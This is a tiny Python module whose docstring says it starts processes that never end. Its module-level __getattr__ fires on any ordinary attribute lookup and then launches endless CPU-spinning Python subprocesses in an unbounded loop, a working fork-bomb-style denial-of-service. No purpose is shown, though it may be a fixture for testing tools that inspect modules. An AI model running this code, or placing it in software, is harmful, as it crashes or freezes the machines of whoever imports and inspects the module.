"""Starts processes that never end."""

import subprocess
import sys


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    while True:
        subprocess.Popen([sys.executable, "-c", "while True: pass"])
